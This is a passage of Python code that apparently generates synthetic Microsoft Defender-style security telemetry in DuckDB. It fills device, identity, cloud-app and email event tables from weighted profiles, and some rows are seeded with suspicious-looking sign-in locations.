    Small Python-side tables (``_mtp_dev``, ``_mtp_usr`` and one per profile list) are joined in;
    profile tables are expanded to one row per weight unit (``slot``) so a hash picks by weight.
    """

    def __init__(
        self,
        con: duckdb.DuckDBPyConnection,
        *,
        seed: int,
        now: datetime,
        days: int,
        devices: Sequence[Device],
        users: Sequence[User],
    ) -> None:
        self.con = con
        self.seed = seed
        self.now = now
        self.days = days
        self.start = now - timedelta(days=days)
        self.devices = devices
        self.users = users
        self.temp_tables: list[str] = []
        self.weights: dict[str, int] = {}
        # Employees come first in `users`; mail and cloud activity is theirs, not the service accounts'.
        self.people = sum(1 for user in users if user.kind in ("user", "analyst"))
        # Part of every hash salt: without it, row i of two tables would share its time and picks.
        self.scope = ""

    # ---- SQL fragments -------------------------------------------------------------------------

    def rand(self, salt: str, modulo: int, key: str = "b.i") -> str:
        """A number in ``[0, modulo)`` fixed by (key, seed, salt)."""
        return f"(hash({key}, {self.seed}, '{self.scope}/{salt}') % {max(modulo, 1)})::BIGINT"

    def pick(self, values: Sequence[str], salt: str, key: str = "b.i") -> str:
        """One of ``values``, uniformly."""
        listed = ", ".join(_sql_str(value) for value in values)
        return f"list_element([{listed}], 1 + {self.rand(salt, len(values), key)})"

    def guid(self, salt: str, key: str = "b.i") -> str:
        return f"md5(concat('{self.seed}', '{salt}', {key}))::UUID::VARCHAR"

    def timestamp(self, per_day: int, key: str = "b.i") -> str:
        """Row ``i`` falls in the ``i // per_day``-th 24 hours after the start; 70 % in 07:00-19:00 UTC.

        Offsets stay inside the row's own 24 hours, so each holds exactly ``per_day`` rows.
        """
        midnight = self.start.replace(hour=0, minute=0, second=0, microsecond=0)
        since_midnight = (self.start - midnight) // timedelta(microseconds=1)
        # Shift so that offset 0 of the working window is 07:00 on the clock, wrapping within the slot.
        seven = (7 * 3_600_000_000 - since_midnight) % _DAY_US
        working = f"({seven} + {self.rand('tsw', 43_200_000_000, key)}) % {_DAY_US}"
        anytime = self.rand("tsa", _DAY_US, key)
        offset = f"CASE WHEN {self.rand('tsk', 100, key)} < 70 THEN {working} ELSE {anytime} END"
        start = self.start.isoformat()
        return f"(TIMESTAMPTZ '{start}' + to_microseconds(({key} // {per_day}) * {_DAY_US} + {offset}))"

    def fill(
        self, template: str, *, user: str = "u.account_name", host: str = "d2.device_name", salt: str = "n"
    ) -> str:
        """Replace ``{user}``, ``{host}`` and ``{n}`` in a template expression.

        ``{n}`` is one number per row (same salt), so a file name and its path in one row agree.
        """
        number = f"CAST(100 + {self.rand(salt, 900)} AS VARCHAR)"
        return f"replace(replace(replace({template}, '{{user}}', {user}), '{{host}}', {host}), '{{n}}', {number})"

    def base(self, rows: int, per_day: int) -> str:
        return f"(SELECT range AS i, {self.timestamp(per_day, 'range')} AS _ts FROM range({rows})) b"

    def device_join(self, alias: str = "d", salt: str = "dev") -> str:
        return f"JOIN _mtp_dev {alias} ON {alias}.idx = {self.rand(salt, len(self.devices))}"

    def owner_join(self, alias: str = "u", device: str = "d", salt: str = "usr") -> str:
        """Mostly the device's primary user, sometimes anyone (shared and admin logons)."""
        other = self.rand(salt, len(self.users))
        return f"JOIN _mtp_usr {alias} ON {alias}.idx = CASE WHEN {self.rand(salt + 'o', 10)} < 8 THEN {device}.owner_idx ELSE {other} END"

    def user_join(self, alias: str = "u", salt: str = "usr", *, people_only: bool = False) -> str:
        count = self.people if people_only else len(self.users)
        return f"JOIN _mtp_usr {alias} ON {alias}.idx = {self.rand(salt, count)}"

    def profile_join(self, name: str, alias: str = "p") -> str:
        return f"JOIN _mtp_{name} {alias} ON {alias}.slot = {self.rand(name, self.weights[name])}"

    # ---- plumbing ------------------------------------------------------------------------------

    def temp_table(self, name: str, rows: Sequence[Mapping[str, Any]]) -> None:
        """Create ``_mtp_<name>`` from Python rows (column types from the first row)."""
        columns = list(rows[0])
        types = {column: _duck_type(rows[0][column]) for column in columns}
        body = ", ".join(f'"{column}" {types[column]}' for column in columns)
        table = f"_mtp_{name}"
        self.con.execute(f"CREATE OR REPLACE TEMP TABLE {table} ({body})")
        placeholders = "(" + ", ".join("?" for _ in columns) + ")"
        params = [row[column] for row in rows for column in columns]
        self.con.execute(f"INSERT INTO {table} VALUES {', '.join([placeholders] * len(rows))}", params)
        self.temp_tables.append(table)

    def profile_table(self, name: str, profiles: Sequence[Mapping[str, Any]]) -> None:
        """A profile list expanded to one row per weight unit, numbered by ``slot``."""
        self.temp_table(f"{name}_raw", [{"pidx": index, **profile} for index, profile in enumerate(profiles)])
        self.con.execute(
            f"CREATE OR REPLACE TEMP TABLE _mtp_{name} AS "
            f"SELECT unnest(range(lo, lo + weight)) AS slot, * EXCLUDE (lo) FROM ("
            f"  SELECT *, (sum(weight) OVER (ORDER BY pidx) - weight)::BIGINT AS lo FROM _mtp_{name}_raw)"
        )
        self.temp_tables.append(f"_mtp_{name}")
        self.weights[name] = sum(int(profile["weight"]) for profile in profiles)

    def insert(self, table: str, columns: Mapping[str, str], source: str, order: str = "b._ts, b.i") -> None:
        """``INSERT ... SELECT`` with every column in documented order; unnamed ones are NULL."""
        schema = table_schemas()[table]
        unknown = set(columns) - {name for name, _ in schema}
        if unknown:
            raise ValueError(f"generator names unknown columns of {table}: {sorted(unknown)}")
        select = ", ".join(
            f'CAST({columns.get(name, "NULL")} AS {DUCKDB_TYPES[kusto]}) AS "{name}"'
            for name, kusto in schema
        )
        self.con.execute(f'INSERT INTO store."{table}" SELECT {select} {source} ORDER BY {order}')

    def rows_per_day(self, table: str, events_per_day: int) -> int:
        if table in FULL_TABLES:
            return events_per_day
        return round(events_per_day * TABLE_FRACTIONS[table])

    # ---- the run -------------------------------------------------------------------------------

    def write_all(self, events_per_day: int) -> None:
        try:
            self.load_lookups()
            self.device_info()
            self.device_network_info()
            self.identity_info()
            writers = {
                "DeviceProcessEvents": self.process_events,
                "DeviceNetworkEvents": self.network_events,
                "DeviceFileEvents": self.file_events,
                "DeviceLogonEvents": self.logon_events,
                "DeviceEvents": self.device_events,
                "DeviceRegistryEvents": self.registry_events,
                "DeviceImageLoadEvents": self.image_load_events,
                "IdentityLogonEvents": self.identity_logon_events,
                "IdentityDirectoryEvents": self.directory_events,
                "CloudAppEvents": self.cloud_app_events,
            }
            for table, write in writers.items():
                per_day = self.rows_per_day(table, events_per_day)
                if per_day:
                    write(per_day)
            self.email_tables(events_per_day)
        finally:
            for table in reversed(self.temp_tables):
                self.con.execute(f"DROP TABLE IF EXISTS {table}")

    def load_lookups(self) -> None:
        index_of = {user.account_name: index for index, user in enumerate(self.users)}
        self.temp_table(
            "dev",
            [
                {
                    "idx": index,
                    **{
                        key: value
                        for key, value in asdict(device).items()
                        if key not in ("first_seen", "os_build")
                    },
                    "os_build": device.os_build or 0,
                    "owner_idx": index_of[device.primary_user],
                }
                for index, device in enumerate(self.devices)
            ],
        )
        self.temp_table("usr", [{"idx": index, **asdict(user)} for index, user in enumerate(self.users)])
        self.profile_table("proc", [{**p, **_hash_columns(p["file"])} for p in PROCESS_PROFILES])
        self.profile_table("dest", NETWORK_DESTINATIONS)
        self.profile_table("file", FILE_PROFILES)
        self.profile_table("mail", EMAIL_PROFILES)
        self.profile_table("logon", LOGON_PROFILES)
        self.profile_table("devent", DEVICE_EVENT_PROFILES)
        self.profile_table("reg", REGISTRY_PROFILES)
        self.profile_table("img", [{**p, **_hash_columns(p["file"])} for p in IMAGE_LOAD_PROFILES])
        self.profile_table("idlogon", IDENTITY_LOGON_PROFILES)
        self.profile_table("dir", DIRECTORY_PROFILES)
        self.profile_table("cloud", CLOUD_APP_PROFILES)

    # ---- per-device and per-user snapshots -----------------------------------------------------

    def snapshot_source(self, table: str, count: int) -> str:
        """One row per (day, entity): index ``i`` is ``day * count + entity``."""
        rows = self.days * count
        return f"FROM (SELECT range AS i, {self.timestamp(count, 'range')} AS _ts FROM range({rows})) b JOIN {table} ON {table}.idx = b.i % {count}"

    def device_info(self) -> None:
        self.scope = "DeviceInfo"
        d = "_mtp_dev"
        logged_on = f"json_array(json_object('UserName', u.account_name, 'DomainName', '{NETBIOS_DOMAIN}', 'Sid', u.sid))::VARCHAR"
        columns = {
            "Timestamp": "b._ts",
            "DeviceId": f"{d}.device_id",
            "DeviceName": f"{d}.device_name",
            "ClientVersion": f"{d}.client_version",
            "PublicIP": f"{d}.public_ip",
            "OSArchitecture": "'64-bit'",
            "OSPlatform": f"{d}.os_platform",
            "OSBuild": f"NULLIF({d}.os_build, 0)",
            "IsAzureADJoined": f"{d}.aad_device_id <> ''",
            "JoinType": f"CASE WHEN {d}.aad_device_id = '' THEN NULL ELSE 'Hybrid Azure AD Join' END",
            "AadDeviceId": f"NULLIF({d}.aad_device_id, '')",
            "LoggedOnUsers": logged_on,
            "OSVersion": f"{d}.os_version",
            "MachineGroup": f"{d}.rbac_group",
            "ReportId": "b.i + 1",
            "OnboardingStatus": "'Onboarded'",
            "DeviceCategory": "'Endpoint'",
            "DeviceType": f"{d}.device_type",
            "Model": f"{d}.model",
            "Vendor": f"{d}.vendor",
            "IsInternetFacing": f"{d}.role = 'WebServer'",
            "SensorHealthState": "'Active'",
            "ExposureLevel": f"{d}.exposure_level",
            "AssetValue": f"CASE WHEN {d}.role = 'DomainController' THEN 'High' ELSE 'Normal' END",
            "DeviceRoles": f"CASE WHEN {d}.role = '' THEN NULL ELSE json_array({d}.role)::VARCHAR END",
        }
        self.insert(
            "DeviceInfo",
            columns,
            f"{self.snapshot_source(d, len(self.devices))} JOIN _mtp_usr u ON u.idx = {d}.owner_idx",
        )

    def device_network_info(self) -> None:
        self.scope = "DeviceNetworkInfo"
        d = "_mtp_dev"
        networks = '\'[{"Name":"contoso.com","Description":"contoso.com","IsConnectedToInternet":true,"Category":"Domain"}]\''
        addresses = f"json_array(json_object('IPAddress', {d}.ip, 'SubnetPrefix', 24, 'AddressType', 'Private'))::VARCHAR"
        gateway = f"json_array(regexp_replace({d}.ip, '\\.\\d+$', '.1'))::VARCHAR"
        columns = {
            "Timestamp": "b._ts",
            "DeviceId": f"{d}.device_id",
            "DeviceName": f"{d}.device_name",
            "NetworkAdapterName": "'Ethernet0'",
            "MacAddress": f"{d}.mac",
            "NetworkAdapterType": "'Ethernet'",
            "NetworkAdapterStatus": "'Up'",
            "ConnectedNetworks": networks,
            "DnsAddresses": f"'{json.dumps(list(DC_IPS), separators=(',', ':'))}'",
            "IPv4Dhcp": f"CASE WHEN {d}.device_type = 'Server' THEN NULL ELSE '10.0.0.5' END",
            "DefaultGateways": gateway,
            "IPAddresses": addresses,
            "ReportId": "b.i + 1",
            "NetworkAdapterVendor": "'Intel Corporation'",
            "OnboardingStatus": "'Onboarded'",
            "NetworkAdapterDnsSuffix": f"'{DOMAIN}'",
        }
        self.insert("DeviceNetworkInfo", columns, self.snapshot_source(d, len(self.devices)))

    def identity_info(self) -> None:
        self.scope = "IdentityInfo"
        u = "_mtp_usr"
        roles = f"CASE WHEN {u}.kind = 'analyst' THEN '[\"Security Operator\"]' WHEN {u}.kind = 'admin' THEN '[\"Global Administrator\"]' ELSE '[]' END"
        columns = {
            "Timestamp": "b._ts",
            "ReportId": self.guid("idinfo"),
            "AccountObjectId": f"{u}.object_id",
            "AccountUpn": f"{u}.upn",
            "OnPremSid": f"{u}.sid",
            "AccountDisplayName": f"{u}.display_name",
            "AccountName": f"{u}.account_name",
            "AccountDomain": f"'{DOMAIN}'",
            "CriticalityLevel": f"CASE WHEN {u}.kind IN ('admin', 'analyst') THEN 4 ELSE 0 END",
            "Type": f"CASE WHEN {u}.kind = 'service' THEN 'ServiceAccount' ELSE 'User' END",
            "GivenName": f"NULLIF({u}.given_name, '')",
            "Surname": f"NULLIF({u}.surname, '')",
            "Department": f"{u}.department",
            "JobTitle": f"{u}.job_title",
            "EmailAddress": f"{u}.upn",
            "City": f"{u}.city",
            "Country": f"{u}.country",
            "IsAccountEnabled": "true",
            "SourceProviders": '\'["AzureActiveDirectory","ActiveDirectory"]\'',
            "AssignedRoles": roles,
            "Tags": f"CASE WHEN {u}.kind = 'admin' THEN '[\"Sensitive\"]' ELSE '[]' END",
            "RiskLevel": "'Low'",
            "IdentityEnvironment": "'Hybrid'",
        }
        self.insert("IdentityInfo", columns, self.snapshot_source(u, len(self.users)))

    # ---- device event tables -------------------------------------------------------------------

    def account_columns(self, prefix: str, kind: str = "p.account") -> dict[str, str]:
        """Account columns for a row run either by the user ``u`` or by the local system."""
        system = f"{kind} = 'system'"
        return {
            f"{prefix}AccountDomain": f"CASE WHEN {system} THEN 'nt authority' ELSE lower(u.account_domain) END",
            f"{prefix}AccountName": f"CASE WHEN {system} THEN 'system' ELSE u.account_name END",
            f"{prefix}AccountSid": f"CASE WHEN {system} THEN 'S-1-5-18' ELSE u.sid END",
            f"{prefix}AccountUpn": f"CASE WHEN {system} THEN NULL ELSE u.upn END",
            f"{prefix}AccountObjectId": f"CASE WHEN {system} THEN NULL ELSE u.object_id END",
        }

    def process_events(self, per_day: int) -> None:
        self.scope = "DeviceProcessEvents"
        folder = self.fill("p.path")
        columns = {
            "Timestamp": "b._ts",
            "DeviceId": "d.device_id",
            "DeviceName": "d.device_name",
            "ActionType": "'ProcessCreated'",
            "FileName": "p.file",
            "FolderPath": folder,
            "SHA1": "p.sha1",
            "SHA256": "p.sha256",
            "MD5": "p.md5",
            "FileSize": f"50000 + {self.rand('size', 5_000_000)}",
            "ProcessVersionInfoCompanyName": "p.company",
            "ProcessId": f"4 + 4 * {self.rand('pid', 4000)}",
            "ProcessCommandLine": self.fill("p.cmd"),
            "ProcessIntegrityLevel": "p.integrity",
            "ProcessTokenElevation": "CASE WHEN p.integrity = 'Medium' THEN 'TokenElevationTypeLimited' ELSE 'TokenElevationTypeDefault' END",
            "ProcessCreationTime": "b._ts",
            **self.account_columns(""),
            "LogonId": f"100000 + {self.rand('logon', 900000)}",
            **self.account_columns("InitiatingProcess"),
            "InitiatingProcessFileName": "p.parent",
            "InitiatingProcessFolderPath": self.fill("p.parent_path"),
            "InitiatingProcessId": f"4 + 4 * {self.rand('ppid', 4000)}",
            "InitiatingProcessCommandLine": "p.parent",
            "InitiatingProcessSHA256": "sha256(lower(p.parent))",
            "ReportId": "b.i + 1",
            "AdditionalFields": "NULLIF(p.extra, '')",
            "ProcessUniqueId": f"CAST({self.rand('puid', 10**12)} AS VARCHAR)",
        }
        source = f"FROM {self.base(per_day * self.days, per_day)} {self.device_join()} {self.owner_join()} {self.device_join('d2', 'dev2')} {self.profile_join('proc')}"
        self.insert("DeviceProcessEvents", columns, source)

    def network_events(self, per_day: int) -> None:
        self.scope = "DeviceNetworkEvents"
        inbound = "p.kind = 'in'"
        public = "p.kind = 'out'"
        columns = {
            "Timestamp": "b._ts",
            "DeviceId": "d.device_id",
            "DeviceName": "d.device_name",
            "ActionType": f"CASE WHEN {inbound} THEN 'InboundConnectionAccepted' ELSE {self.pick(NETWORK_ACTIONS, 'act')} END",
            "RemoteIP": f"CASE WHEN {public} THEN p.ip ELSE d2.ip END",
            "RemotePort": f"CASE WHEN {inbound} THEN 49152 + {self.rand('rport', 16000)} ELSE p.port END",
            "RemoteUrl": "p.url",
            "LocalIP": "d.ip",
            "LocalPort": f"CASE WHEN {inbound} THEN p.port ELSE 49152 + {self.rand('lport', 16000)} END",
            "Protocol": "p.proto",
            "LocalIPType": "'Private'",
            "RemoteIPType": f"CASE WHEN {public} THEN 'Public' ELSE 'Private' END",
            "InitiatingProcessFileName": "p.proc",
            "InitiatingProcessId": f"4 + 4 * {self.rand('pid', 4000)}",
            "InitiatingProcessAccountDomain": "CASE WHEN p.proc IN ('System', 'lsass.exe', 'svchost.exe') THEN 'nt authority' ELSE lower(u.account_domain) END",
            "InitiatingProcessAccountName": "CASE WHEN p.proc IN ('System', 'lsass.exe', 'svchost.exe') THEN 'system' ELSE u.account_name END",
            "InitiatingProcessSHA256": "sha256(lower(p.proc))",
            "ReportId": "b.i + 1",
        }
        source = f"FROM {self.base(per_day * self.days, per_day)} {self.device_join()} {self.owner_join()} {self.device_join('d2', 'dev2')} {self.profile_join('dest')}"
        self.insert("DeviceNetworkEvents", columns, source)

    def file_events(self, per_day: int) -> None:
        self.scope = "DeviceFileEvents"
        name = self.fill("p.name")
        columns = {
            "Timestamp": "b._ts",
            "DeviceId": "d.device_id",
            "DeviceName": "d.device_name",
            "ActionType": self.pick(FILE_ACTIONS, "act"),
            "FileName": name,
            "FolderPath": f"{self.fill('p.folder')} || {name}",
            "SHA1": f"sha1(lower({name}))",
            "SHA256": f"sha256(lower({name}))",
            "MD5": f"md5(lower({name}))",
            "FileOriginUrl": "NULLIF(p.origin, '')",
            "FileSize": f"512 + {self.rand('size', 20_000_000)}",
            **self.account_columns("InitiatingProcess"),
            "InitiatingProcessFileName": "p.proc",
            "InitiatingProcessSHA256": "sha256(lower(p.proc))",
            "InitiatingProcessId": f"4 + 4 * {self.rand('pid', 4000)}",
            "ReportId": "b.i + 1",
        }
        source = f"FROM {self.base(per_day * self.days, per_day)} {self.device_join()} {self.owner_join()} {self.device_join('d2', 'dev2')} {self.profile_join('file')}"
        self.insert("DeviceFileEvents", columns, source)

    def logon_events(self, per_day: int) -> None:
        self.scope = "DeviceLogonEvents"
        local = "p.account <> 'user'"
        remote_ip = "CASE p.remote WHEN 'none' THEN NULL WHEN 'internal' THEN d2.ip ELSE p.remote END"
        columns = {
            "Timestamp": "b._ts",
            "DeviceId": "d.device_id",
            "DeviceName": "d.device_name",
            "ActionType": "p.action",
            "LogonType": "p.logon_type",
            "AccountDomain": f"CASE WHEN p.account LIKE 'svc-%' THEN u.account_domain WHEN {local} THEN upper(d.device_name) ELSE u.account_domain END",
            "AccountName": f"CASE WHEN {local} THEN p.account ELSE u.account_name END",
            "AccountSid": f"CASE WHEN {local} THEN NULL ELSE u.sid END",
            "Protocol": "p.proto",
            "FailureReason": "NULLIF(p.failure, '')",
            "IsLocalAdmin": f"CASE WHEN {local} THEN lower(p.account) IN ('administrator', 'admin') ELSE {self.rand('adm', 10)} = 0 END",
            "LogonId": f"100000 + {self.rand('logon', 900000)}",
            "RemoteDeviceName": "CASE WHEN p.remote = 'internal' THEN d2.device_name END",
            "RemoteIP": remote_ip,
            "RemoteIPType": "CASE p.remote WHEN 'none' THEN NULL WHEN 'internal' THEN 'Private' ELSE 'Public' END",
            "RemotePort": f"CASE WHEN p.remote = 'none' THEN NULL ELSE 49152 + {self.rand('rport', 16000)} END",
            "InitiatingProcessAccountDomain": "'nt authority'",
            "InitiatingProcessAccountName": "'system'",
            "InitiatingProcessFileName": "p.proc",
            "ReportId": "b.i + 1",
        }
        # Service accounts come from the profile, so point `u` at them when the profile names one.
        svc = {user.account_name: index for index, user in enumerate(self.users) if user.kind == "service"}
        svc_case = " ".join(f"WHEN '{name}' THEN {index}" for name, index in svc.items())
        user_pick = f"CASE p.account {svc_case} ELSE CASE WHEN {self.rand('usro', 10)} < 8 THEN d.owner_idx ELSE {self.rand('usr', len(self.users))} END END"
        source = (
            f"FROM {self.base(per_day * self.days, per_day)} {self.device_join()} {self.device_join('d2', 'dev2')} "
            f"{self.profile_join('logon')} JOIN _mtp_usr u ON u.idx = {user_pick}"
        )
        self.insert("DeviceLogonEvents", columns, source)

    def device_events(self, per_day: int) -> None:
        self.scope = "DeviceEvents"
        file = self.fill("p.file")
        columns = {
            "Timestamp": "b._ts",
            "DeviceId": "d.device_id",
            "DeviceName": "d.device_name",
            "ActionType": "p.action",
            "FileName": f"NULLIF({file}, '')",
            "FolderPath": f"NULLIF({self.fill('p.folder')}, '')",
            "SHA256": f"CASE WHEN p.file = '' THEN NULL ELSE sha256(lower({file})) END",
            "AccountDomain": "u.account_domain",
            "AccountName": "u.account_name",
            "AccountSid": "u.sid",
            "RemoteUrl": f"NULLIF({self.fill('p.url')}, '')",
            "InitiatingProcessFileName": "NULLIF(p.proc, '')",
            "InitiatingProcessAccountDomain": "lower(u.account_domain)",
            "InitiatingProcessAccountName": "u.account_name",
            "InitiatingProcessId": f"4 + 4 * {self.rand('pid', 4000)}",
            "ReportId": "b.i + 1",
            "AdditionalFields": f"NULLIF({self.fill('p.extra')}, '')",
        }
        source = f"FROM {self.base(per_day * self.days, per_day)} {self.device_join()} {self.owner_join()} {self.device_join('d2', 'dev2')} {self.profile_join('devent')}"
        self.insert("DeviceEvents", columns, source)

    def registry_events(self, per_day: int) -> None:
        self.scope = "DeviceRegistryEvents"
        columns = {
            "Timestamp": "b._ts",
            "DeviceId": "d.device_id",
            "DeviceName": "d.device_name",
            "ActionType": "p.action",
            "RegistryKey": self.fill("p.key"),
            "RegistryValueType": "NULLIF(p.vtype, '')",
            "RegistryValueName": f"NULLIF({self.fill('p.name')}, '')",
            "RegistryValueData": f"NULLIF({self.fill('p.data')}, '')",
            "InitiatingProcessAccountDomain": "lower(u.account_domain)",
            "InitiatingProcessAccountName": "u.account_name",
            "InitiatingProcessFileName": "p.proc",
            "InitiatingProcessId": f"4 + 4 * {self.rand('pid', 4000)}",
            "ReportId": "b.i + 1",
        }
        source = f"FROM {self.base(per_day * self.days, per_day)} {self.device_join()} {self.owner_join()} {self.device_join('d2', 'dev2')} {self.profile_join('reg')}"
        self.insert("DeviceRegistryEvents", columns, source)

    def image_load_events(self, per_day: int) -> None:
        self.scope = "DeviceImageLoadEvents"
        columns = {
            "Timestamp": "b._ts",
            "DeviceId": "d.device_id",
            "DeviceName": "d.device_name",
            "ActionType": "'ImageLoaded'",
            "FileName": "p.file",
            "FolderPath": "p.folder || p.file",
            "SHA1": "p.sha1",
            "SHA256": "p.sha256",
            "MD5": "p.md5",
            "FileSize": f"20000 + {self.rand('size', 3_000_000)}",
            "InitiatingProcessAccountDomain": "lower(u.account_domain)",
            "InitiatingProcessAccountName": "u.account_name",
            "InitiatingProcessFileName": "p.proc",
            "InitiatingProcessId": f"4 + 4 * {self.rand('pid', 4000)}",
            "ReportId": "b.i + 1",
        }
        source = f"FROM {self.base(per_day * self.days, per_day)} {self.device_join()} {self.owner_join()} {self.profile_join('img')}"
        self.insert("DeviceImageLoadEvents", columns, source)

    # ---- identity and cloud tables -------------------------------------------------------------

    def identity_logon_events(self, per_day: int) -> None:
        self.scope = "IdentityLogonEvents"
        ip = f"CASE p.ip WHEN 'internal' THEN d.ip WHEN 'office' THEN '{OFFICE_EGRESS_IP}' ELSE p.ip END"
        on_prem = "p.app = 'Active Directory'"
        columns = {
            "Timestamp": "b._ts",
            "ActionType": "p.action",
            "Application": "p.app",
            "LogonType": "p.logon_type",
            "Protocol": "NULLIF(p.proto, '')",
            "FailureReason": "NULLIF(p.failure, '')",
            "AccountName": "u.account_name",
            "AccountDomain": f"'{DOMAIN}'",
            "AccountUpn": "u.upn",
            "AccountSid": "u.sid",
            "AccountObjectId": "u.object_id",
            "AccountDisplayName": "u.display_name",
            "DeviceName": f"CASE WHEN {on_prem} THEN d.device_name END",
            "DeviceType": f"CASE WHEN {on_prem} THEN d.device_type END",
            "OSPlatform": f"CASE WHEN {on_prem} THEN d.os_platform END",
            "IPAddress": ip,
            "Port": f"CASE WHEN {on_prem} THEN 49152 + {self.rand('port', 16000)} END",
            "DestinationDeviceName": f"CASE WHEN {on_prem} THEN {self.pick(['srv-dc-01', 'srv-dc-02'], 'dc')} END",
            "DestinationIPAddress": f"CASE WHEN {on_prem} THEN {self.pick(list(DC_IPS), 'dc')} END",
            "DestinationPort": "CASE WHEN p.proto = 'Kerberos' THEN 88 WHEN p.proto = 'Ntlm' THEN 445 END",
            "Location": f"CASE WHEN p.ip LIKE '203.%' THEN 'RU' WHEN {on_prem} THEN NULL ELSE u.country END",
            "Isp": f"CASE WHEN p.ip LIKE '203.%' THEN 'Example Hosting Ltd' WHEN {on_prem} THEN NULL ELSE 'Contoso ISP' END",
            "ReportId": self.guid("idlogon"),
            "AdditionalFields": 'CASE WHEN p.ip LIKE \'203.%\' THEN \'{"Country":"RU","Source":"EntraID"}\' ELSE \'{}\' END',
        }
        source = f"FROM {self.base(per_day * self.days, per_day)} {self.device_join()} {self.owner_join()} {self.profile_join('idlogon')}"
        self.insert("IdentityLogonEvents", columns, source)

    def directory_events(self, per_day: int) -> None:
        self.scope = "IdentityDirectoryEvents"
        columns = {
            "Timestamp": "b._ts",
            "ActionType": "p.action",
            "Application": "'Active Directory'",
            "TargetAccountUpn": "t.upn",
            "TargetAccountDisplayName": "t.display_name",
            "TargetDeviceName": "CASE WHEN p.action = 'SMB file copy' THEN d2.device_name END",
            "DestinationDeviceName": self.pick(["srv-dc-01", "srv-dc-02"], "dc"),
            "DestinationIPAddress": self.pick(list(DC_IPS), "dc"),
            "DestinationPort": "CASE p.proto WHEN 'Ldap' THEN 389 WHEN 'Smb' THEN 445 ELSE 135 END",
            "Protocol": "p.proto",
            "AccountName": "u.account_name",
            "AccountDomain": f"'{DOMAIN}'",
            "AccountUpn": "u.upn",
            "AccountSid": "u.sid",
            "AccountObjectId": "u.object_id",
            "AccountDisplayName": "u.display_name",
            "DeviceName": "d.device_name",
            "IPAddress": "d.ip",
            "Port": f"49152 + {self.rand('port', 16000)}",
            "ReportId": self.guid("dir"),
            "AdditionalFields": self.fill("p.extra", user="t.account_name", host="d.device_name"),
        }
        # The actor is an IT admin's workstation most of the time; the target is anyone.
        source = (
            f"FROM {self.base(per_day * self.days, per_day)} {self.device_join()} {self.owner_join()} "
            f"{self.device_join('d2', 'dev2')} {self.user_join('t', 'target')} {self.profile_join('dir')}"
        )
        self.insert("IdentityDirectoryEvents", columns, source)

    def cloud_app_events(self, per_day: int) -> None:
        self.scope = "CloudAppEvents"
        suspicious = "p.ip <> 'office'"
        ip = f"CASE WHEN {suspicious} THEN p.ip ELSE '{OFFICE_EGRESS_IP}' END"
        raw = f"json_object('Operation', p.action, 'UserId', u.upn, 'ClientIP', {ip}, 'Workload', p.app)::VARCHAR"
        columns = {
            "Timestamp": "b._ts",
            "ActionType": "p.action",
            "Application": "p.app",
            "ApplicationId": "p.app_id",
            "AccountObjectId": "u.object_id",
            "AccountId": "u.object_id",
            "AccountDisplayName": "u.display_name",
            "IsAdminOperation": "p.action = 'Set-Mailbox'",
            "DeviceType": "'Desktop'",
            "OSPlatform": "'Windows'",
            "IPAddress": ip,
            "IsAnonymousProxy": suspicious,
            "CountryCode": f"CASE WHEN {suspicious} THEN 'NG' ELSE u.country END",
            "City": f"CASE WHEN {suspicious} THEN 'Lagos' ELSE u.city END",
            "Isp": f"CASE WHEN {suspicious} THEN 'Example Hosting Ltd' ELSE 'Contoso ISP' END",
            "UserAgent": "'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0'",
            "ActivityType": "p.activity",
            "ObjectName": self.fill("p.obj", host="''"),
            "ObjectType": "p.obj_type",
            "ReportId": self.guid("cloud"),
            "AccountType": "'Regular'",
            "IsExternalUser": "false",
            "IsImpersonated": "false",
            "RawEventData": raw,
            "AuditSource": "'Defender for Cloud Apps access control'",
        }
        source = f"FROM {self.base(per_day * self.days, per_day)} {self.user_join(people_only=True)} {self.profile_join('cloud')}"
        self.insert("CloudAppEvents", columns, source)

    # ---- email tables --------------------------------------------------------------------------

    def email_tables(self, events_per_day: int) -> None:
        """EmailEvents, then the attachment, URL and click tables that point at its messages."""
        self.email_base(events_per_day)
        self.insert_email_events()
        attachments = self.rows_per_day("EmailAttachmentInfo", events_per_day)
        urls = self.rows_per_day("EmailUrlInfo", events_per_day)
        clicks = self.rows_per_day("UrlClickEvents", events_per_day)
        if attachments:
            self.attachment_info(attachments, events_per_day)
        if urls:
            self.url_info(urls, events_per_day)
            if clicks:
                self.url_clicks(clicks, urls)
        # Counts follow the rows actually generated, so joins and the counters agree.
        for column, table in (("AttachmentCount", "EmailAttachmentInfo"), ("UrlCount", "EmailUrlInfo")):
            self.con.execute(
                f"UPDATE store.EmailEvents SET {column} = c.n "
                f"FROM (SELECT NetworkMessageId AS id, count(*) AS n FROM store.{table} GROUP BY ALL) c "
                f"WHERE EmailEvents.NetworkMessageId = c.id"
            )

    def email_base(self, per_day: int) -> None:
        """``_mtp_mail_rows``: one row per message with the fields the other email tables reuse."""
        self.scope = "EmailEvents"
        subject = self.fill("p.subject", user="u.display_name", host="''")
        inbound = "p.kind = 'inbound'"
        outbound = "p.kind = 'outbound'"
        self.con.execute(
            f"""
            CREATE OR REPLACE TEMP TABLE _mtp_mail_rows AS
            SELECT b.i, b._ts,
                {self.guid("nmid")} AS nmid,
                CASE WHEN {inbound} THEN p.sender ELSE u.upn END AS sender,
                CASE WHEN {inbound} THEN p.sender_name ELSE u.display_name END AS sender_name,
                CASE WHEN {inbound} THEN NULL ELSE u.object_id END AS sender_oid,
                CASE WHEN {inbound} THEN u.upn WHEN {outbound} THEN p.sender ELSE r.upn END AS recipient,
                CASE WHEN {outbound} THEN NULL WHEN {inbound} THEN u.object_id ELSE r.object_id END AS recipient_oid,
                CASE WHEN {inbound} THEN 'Inbound' WHEN {outbound} THEN 'Outbound' ELSE 'Intra-org' END AS direction,
                {subject} AS subject,
                {self.fill("p.url", host="''")} AS url,
                p.pidx, p.ip, p.threats, p.action, p.location, p.auth, p.methods, p.bcl
            FROM {self.base(per_day * self.days, per_day)} {self.user_join(people_only=True)} {self.user_join("r", "rcpt", people_only=True)} {self.profile_join("mail")}
            """
        )
        self.temp_tables.append("_mtp_mail_rows")

    def insert_email_events(self) -> None:
        self.scope = "EmailEvents"
        columns = {
            "Timestamp": "b._ts",
            "NetworkMessageId": "b.nmid",
            "InternetMessageId": "'<' || replace(b.nmid, '-', '') || '@' || split_part(b.sender, '@', 2) || '>'",
            "SenderMailFromAddress": "b.sender",
            "SenderFromAddress": "b.sender",
            "SenderDisplayName": "b.sender_name",
